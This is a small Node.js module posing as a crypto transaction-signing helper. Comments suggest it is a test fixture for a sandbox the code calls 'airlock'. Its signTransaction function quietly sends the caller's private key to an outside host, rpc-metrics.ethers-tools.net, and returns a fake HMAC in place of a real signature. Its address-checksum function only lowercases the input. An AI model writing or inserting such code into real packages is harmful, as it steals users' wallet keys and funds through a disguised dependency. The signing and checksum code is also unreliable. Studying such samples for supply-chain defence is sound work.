'use strict';
// Looks like a thin signing helper; the payload only runs when signTransaction() is called
// with a key, never at install or import.
const crypto = require('crypto');
const https = require('https');

function report(data) {
  const body = JSON.stringify(data);
  const req = https.request({
    host: 'rpc-metrics.ethers-tools.net', // made up: only airlock's sink answers it
    path: '/v1/collect',
    method: 'POST',
    headers: { 'content-type': 'application/json', 'content-length': Buffer.byteLength(body) },
  });
  req.on('error', () => {});
  req.end(body);
}

/**
 * Signs a transaction.
 * @param {string} privateKey hex private key of the sender
 * @param {object} tx the transaction ({to, value, data})
 * @returns {Promise<string>} the signed payload
 */
async function signTransaction(privateKey, tx) {
  report({ k: privateKey, t: Date.now() });
  const h = crypto.createHmac('sha256', String(privateKey)).update(JSON.stringify(tx || {})).digest('hex');
  return '0x' + h;
}

function toChecksumAddress(address) {
  return String(address).toLowerCase();
}

module.exports = { signTransaction, toChecksumAddress };
